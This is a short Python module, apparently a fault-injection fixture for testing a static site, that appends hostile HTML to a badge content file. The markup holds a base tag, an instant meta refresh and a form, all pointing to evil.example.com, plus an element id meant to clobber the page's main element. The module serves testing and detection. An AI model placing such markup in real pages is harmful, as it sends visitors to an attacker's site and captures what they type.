"""Tags that lead the whole page elsewhere."""

from __future__ import annotations

from pathlib import Path

from faults.tools import replace, write


def lay(root: Path) -> None:
    """Spoil the site."""
    write(
        root,
        "content/badges/meeting.md",
        (root / "content/badges/meeting.md").read_bytes()
        + (
            b"\n"
            b'<base href="https://evil.example.com/">'
            b'<meta http-equiv="refresh" content="0;url=https://evil.example.com/">'
            b'<form action="https://evil.example.com/"><input name=q></form><p id="main">x</p>\n'
        ),
    )
    replace(root, "content/badges/meeting.md", "kind: participation", 'version: "2"\nkind: participation')
